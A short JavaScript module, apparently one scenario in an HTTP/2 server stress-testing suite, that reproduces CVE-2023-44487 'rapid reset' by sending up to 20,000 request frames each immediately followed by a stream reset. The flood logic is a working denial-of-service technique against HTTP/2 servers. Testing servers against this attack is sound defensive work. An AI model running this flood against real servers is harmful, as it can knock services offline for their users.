// CVE-2023-44487.
import * as h2 from '../../e2e/frames.mjs';
import { flood } from '../bouts.mjs';
import { LARGE, WARM } from '../paths.mjs';

const most = 20_000; // what lies in socket buffers counts
const paths = [WARM, LARGE, '/nothing'];
let n = 0;

export default {
  name: 'rapid resets',
  does: 'asks and takes it back at once',
  unit: 'streams',
  pause_ms: 100,
  most,
  longest_s: 3,
  bout: (target) => {
    const path = paths[n++ % paths.length];
    return flood(target, { most, piece: (i) => Buffer.concat([h2.get(2 * i + 1, path), h2.reset(2 * i + 1)]) });
  },
};
